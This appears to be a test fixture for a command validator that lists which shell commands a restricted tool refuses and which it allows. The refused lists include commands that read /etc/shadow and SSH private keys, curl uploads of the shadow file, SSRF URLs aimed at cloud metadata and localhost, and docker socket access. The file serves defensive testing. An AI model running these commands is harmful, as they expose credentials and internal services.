/** Programs and what they are told, a line each, with a blank between the words. */

/** Refused for an argument. */
export const ARGUMENT: readonly string[] = `
cat /etc/shadow
cat /etc//shadow
cat /etc/./gshadow
cat -- /etc/shadow
cat /root/.ssh/id_ed25519
cat /proc/kcore
cat /srv/../etc/shadow
cat ../etc/shadow
cat ~/a
grep x /etc/shadow
grep -f /etc/shadow x
grep -f/etc/shadow x
grep -nf/etc/shadow x
grep --file=/etc/shadow x
grep --file /etc/shadow x
grep -r x /
grep -R x /
grep -dr x /
grep --recursive x /
grep --dereference-recursive x /
grep -d recurse x /
grep --directories=recurse x /
grep --exclude-from=/etc/shadow x /srv/a
grep --fil=/etc/shadow x
grep --fil /etc/shadow x
grep --file-name-only x /srv/a
tail /etc/shadow
tail -f /var/log/syslog
tail -F /var/log/syslog
tail -nf /var/log/syslog
tail -n1f /var/log/syslog
tail --follow /var/log/syslog
tail --follow=name /var/log/syslog
tail --fol /var/log/syslog
tail --retry /var/log/syslog
tail --pid=1 /var/log/syslog
tail -s1 /var/log/syslog
tail -5f /var/log/syslog
tail +5f /var/log/syslog
tail +f
sort /etc/shadow
sort -o /tmp/x /tmp/a
sort -o/tmp/x /tmp/a
sort -no /tmp/x /tmp/a
sort --output=/tmp/x /tmp/a
sort --output /tmp/x /tmp/a
sort --outp=/tmp/x /tmp/a
sort --out /tmp/x /tmp/a
sort --k 2 /tmp/a
sort /tmp/a -o /tmp/x
sort --compress-program=/tmp/x /tmp/a
sort --compress-program /tmp/x /tmp/a
sort --files0-from=/etc/shadow
sort --random-source=/etc/shadow -R /tmp/a
sort -T /tmp/x /tmp/a
sort -S 1 /tmp/a
sort --debug=x /tmp/a
sort +1 -o /tmp/x /tmp/a
sort +1 /tmp/a
ip -batch /tmp/a
ip -b /tmp/a
ip -force -batch /tmp/a
ip -n other addr
ip -netns other addr
ip -all netns exec id
ip addr show -batch
journalctl --vacuum-size=1M
journalctl --vacuum-size 1M
journalctl --vacuum-s=1M
journalctl --line 5
journalctl --vacuum-time=1s
journalctl --vacuum-files=1
journalctl --rotate
journalctl --flush
journalctl --sync
journalctl --relinquish-var
journalctl --setup-keys
journalctl --update-catalog
journalctl --cursor-file=/tmp/a
journalctl -f
journalctl -fu nginx
journalctl --follow
journalctl -D /tmp
journalctl --file=/etc/shadow
journalctl --root=/tmp
journalctl -M other
journalctl /bin/sh
ss -K
ss -tK
ss --kill
ss --kil
ss --num
ss -- -K
ss -D /tmp/x
ss -tD/tmp/x
ss --diag=/tmp/x
ss -F /etc/shadow
ss --filter=/etc/shadow
ss -N other
ss -E
ss --events
systemctl -H other status
systemctl --host=other status
systemctl -M other status
systemctl --root=/tmp status
systemctl status -H other
systemctl --no-page status
systemctl --prop ActiveState show
docker -H tcp://other ps
docker --host=tcp://other ps
docker --context other ps
docker --config /tmp ps
docker logs -f web
docker logs --follow web
docker stats
docker stats web
docker stats --no-stream=false
docker inspect --format {{.Config.Env}} web
docker inspect --format {{json(.)}} web
docker inspect -f {{range.Config.Env}}{{.}}{{end}} web
docker inspect --format={{.Config}} web
docker inspect -f={{.Config.Env}} web
docker network inspect -f {{.}} a
docker top web eww
docker top web -eo pid
curl https://example.com/
curl -s -q https://example.com/
curl -qL https://example.com/
curl -q -L https://example.com/
curl -q --location https://example.com/
curl -q --location-trusted https://example.com/
curl -q -o /tmp/x https://example.com/
curl -q -O https://example.com/a
curl -q --output=/tmp/x https://example.com/
curl -q -w @/etc/shadow https://example.com/
curl -q -w %output{/tmp/x} https://example.com/
curl -q -H @/etc/shadow https://example.com/
curl -q -d a=b https://example.com/
curl -q -d @/etc/shadow https://example.com/
curl -q -T /etc/shadow https://example.com/
curl -q -F a=@/etc/shadow https://example.com/
curl -q -K /tmp/x https://example.com/
curl -q -X POST https://example.com/
curl -q -XDELETE https://example.com/
curl -q -x http://proxy https://example.com/
curl -q --resolve example.com:443:127.0.0.1 https://example.com/
curl -q --connect-to ::127.0.0.1: https://example.com/
curl -q --unix-socket /var/run/docker.sock http://example.com/
curl -q --url @/etc/shadow
curl -q https://user:word@example.com/
curl -q http://example.com\\@127.0.0.1/
curl -q http://example.com#@127.0.0.1/
curl -q file:///etc/shadow
curl -q ftp://example.com/
curl -q gopher://example.com/
curl -q example.com
curl -q http://{127.0.0.1,a}/
curl -q http://127.0.0.1/
curl -q http://127.1/
curl -q http://0/
curl -q http://2130706433/
curl -q http://0x7f000001/
curl -q http://0177.0.0.1/
curl -q http://10.0.0.1/
curl -q http://172.16.0.1/
curl -q http://192.168.1.1/
curl -q http://100.64.0.1/
curl -q http://169.254.169.254/latest/meta-data/
curl -q http://224.0.0.1/
curl -q http://[::1]/
curl -q http://[::]/
curl -q http://[::ffff:127.0.0.1]/
curl -q http://[::ffff:7f00:1]/
curl -q http://[fe80::1]/
curl -q http://[fd00::1]/
curl -q http://[64:ff9b::7f00:1]/
curl -q http://[2002:7f00:1::]/
curl -q http://localhost/
curl -q http://localhost./
curl -q http://LOCALHOST/
curl -q http://a.localhost/
curl -q http://printer.local/
curl -q http://metadata.google.internal/
curl -q http://router.home.arpa/
`.trim().split("\n");

/** Refused for a command. */
export const SUBCOMMAND: readonly string[] = `
ip link set eth0 up
ip addr add 10.0.0.1/8 dev eth0
ip addr flush dev eth0
ip netns exec a id
ip vrf exec a id
ip route del default
ip route save
ip route restore
ip neigh flush all
ip tunnel show
ip monitor
systemctl restart nginx
systemctl stop nginx
systemctl edit nginx
systemctl set-property nginx CPUShares=1
systemctl daemon-reload
systemctl isolate rescue
docker run a
docker exec web id
docker rm web
docker cp web:/a /tmp
docker compose up
docker build .
docker network rm a
docker network prune
docker volume rm a
docker volume create a
`.trim().split("\n");

/** Allowed. */
export const ALLOWED: readonly string[] = `
cat /etc/hostname
cat -n -- /var/log/syslog
cat -- -x
sort -- -o
cat -
grep -n x /etc/passwd
grep -inE -e x -e y /etc/passwd
grep -A3 x /etc/passwd
grep --color=never x /etc/passwd
grep -- -x /etc/passwd
sort -nrk2 -t: /etc/passwd
sort -u
sort --key=2 /etc/passwd
tail -n 5 /var/log/syslog
tail -n+5 /var/log/syslog
tail -c 1k /var/log/syslog
tail --lines=5 /var/log/syslog
ip addr
ip -br -details link
ip -j -4 addr show dev eth0
ip -s link
ip route get 192.0.2.1
journalctl -u nginx.service -n 50 --no-pager
journalctl -k -b-1 -p err
journalctl --since yesterday _PID=1 + _PID=2
ss -tlnp
ss -t state established ( dport = :443 )
systemctl status nginx.service --no-pager
systemctl --failed
systemctl show -p ActiveState nginx
systemctl list-timers --all
docker ps -a --format {{.Names}}
docker inspect web
docker inspect -f {{.State.Status}} web
docker logs --tail 5 web
docker stats --no-stream
docker top web
docker volume ls -q
docker --version
curl -q -sS -m 5 -o /dev/null -w %{http_code} https://example.com/a?b=c
curl -q -I -H Accept:text/html --url https://example.com:8443/
curl --disable -X HEAD https://[2606:2800:220:1::1]/
`.trim().split("\n");
